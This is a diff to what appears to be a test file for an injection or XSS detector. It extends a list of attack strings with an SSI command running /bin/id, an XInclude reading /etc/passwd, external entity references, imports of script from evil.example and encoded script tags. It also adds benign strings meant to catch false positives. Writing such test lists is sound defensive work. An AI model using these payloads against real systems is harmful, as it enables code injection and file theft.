@@ -241,8 +241,35 @@ ATTACKS = [
     "[].map.call`${eval}`",
     "{{constructor.constructor('alert(1)')()}}",
     "(![]+[])[+!+[]]",
+    # server side includes, XML external resources
+    '<!--#exec cmd="/bin/id"-->',
+    "<x xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
+    "xsi:schemaLocation='http://a.example/ http://evil.example/x.xsd'>",
+    "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></x>",
+    "foo!ENTITY % bar SYSTEM 'http://evil.example/'",
+    "<xml id=x src=test.htc></xml>",
+    "<:vmlframe src=x.fml>",
+    # attribute injection without a payload of its own
+    "<button formaction=//evil.example>go",
+    "'formaction=",
+    "<x onwebkitplaybacktargetavailabilitychanged=alert(1)>",
+    "x=x:url(javascript:alert(1))",
+    # markup hidden in attribute values of submitted markup (XML consumers, sanitizers)
+    "<a probe='&lt;script&gt;alert(1)&lt;/script&gt;'></a>",
+    "<root><a probe='  onload= '></a></root>",
+    # JavaScript variants
+    "'-(alert)(1)-'",
+    "(0,alert)(1)",
+    "alert.call(null,1)",
+    "import {x} from '//evil.example/x.js'",
+    "import('//evil.example/x.js')",
     # encodings a back end may undo
     "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
+    "\\u003cimg src=x onerror=alert(1)\\u003e",
+    "%uff1cscript%uff1ealert(1)%uff1c/script%uff1e",
+    "\\xbcscript\\xbealert(1)\\xbc/script\\xbe",
+    "%2bADw-script%2bAD4-alert(1)%2bADw-/script%2bAD4-",
     "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
 ]
@@ -348,6 +375,17 @@ BENIGN = [
     "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
     "/search?q=top+10+self+help+books",
     "Tom & Jerry; R&D; Q&A; AT&T",
+    # base64 tokens can end in '/on<letters>=' - not an event handler
+    "VGhhbmtzLCBmb3IgYWxsIHlvdXIgd29yaw/onafe=",
+    "dGhlIG9ubG9hZA/onload",
+    "Settings --> Privacy --> Cookies",
+    '<meta name="referrer" content="no-referrer"> is the tag to remove',
+    "git notes add [<options>] [<object>]",
+    "If you're willing to import (and perhaps wait), it is cheaper.",
+    "¼ cup sugar, ¾ cup flour",
+    "Escape it as \\x41 or \\u0041 in JS",
+    "<xml><item>1</item></xml>",
+    '<?xml version="1.0"?><order><id>5</id><note>a &lt; b</note></order>',
     "C:\\Program Files\\App",
 ]
 
